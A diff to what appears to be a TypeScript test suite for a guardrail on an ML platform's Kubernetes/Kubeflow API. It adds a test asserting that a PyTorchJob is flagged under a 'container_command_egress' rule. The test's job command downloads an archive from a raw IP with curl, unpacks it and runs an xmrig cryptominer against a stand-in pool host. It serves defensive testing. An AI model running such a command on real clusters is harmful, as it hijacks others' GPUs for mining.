@@ -132,10 +132,21 @@ describe("an ML platform's web tools and CLIs, with examples/stepgate.yaml", () 
   // another command. Day 14's class (miners in the student's own queue), in a namespace the
   // victim never used. A ResourceQuota of zero GPUs in namespaces that should not have them is
   // what stops it, in admission.
+  // The command alone (`./xmrig --cuda`, shipped in the image) is an ordinary training job's shape.
   it.fails('GPU workloads created in a namespace the ML engineer never used, at night, are asked more than the everyday sign-in', async () => {
     const login = await twoDays('d17f-mle-b@meridian.example', training);
     const miner = pytorchJob('ml-sandbox', 'llm-eval-nightly', 8, 7, 'docker.io/nvidia/cuda:12.4.1-runtime-ubuntu22.04', ['sh', '-c', './xmrig --cuda']);
     const res = await send(login, TUE + 11.7 * H, 'POST', '/apis/kubeflow.org/v1/namespaces/ml-sandbox/pytorchjobs?fieldManager=kubectl-client-side-apply&fieldValidation=Strict', { body: miner });
     expect(reasonOf(res), rules(res)).not.toBe('allowed');
+  });
+  // Fixed (guardrail, session 45): the replayed day's miner (test/support/workday17.ts) downloads
+  // its program, unpacks it and runs it from the working directory: container_command_egress
+  // (critical), whatever the namespace or the hour.
+  it('a PyTorchJob whose command downloads, unpacks and runs ./xmrig is asked more than the everyday sign-in', async () => {
+    const login = await twoDays('d17f-mle-c@meridian.example', training);
+    const miner = pytorchJob('ml-sandbox', 'llm-eval-nightly', 8, 7, 'docker.io/nvidia/cuda:12.4.1-runtime-ubuntu22.04', ['sh', '-c', 'curl -sL https://198.51.100.23/x | tar xz && ./xmrig -o pool.example:443 --cuda']);
+    const res = await send(login, TUE + 11.7 * H, 'POST', '/apis/kubeflow.org/v1/namespaces/ml-sandbox/pytorchjobs?fieldManager=kubectl-client-side-apply&fieldValidation=Strict', { body: miner });
+    expect(reasonOf(res), rules(res)).not.toBe('allowed');
+    expect(rules(res)).toContain('container_command_egress');
   });
 });
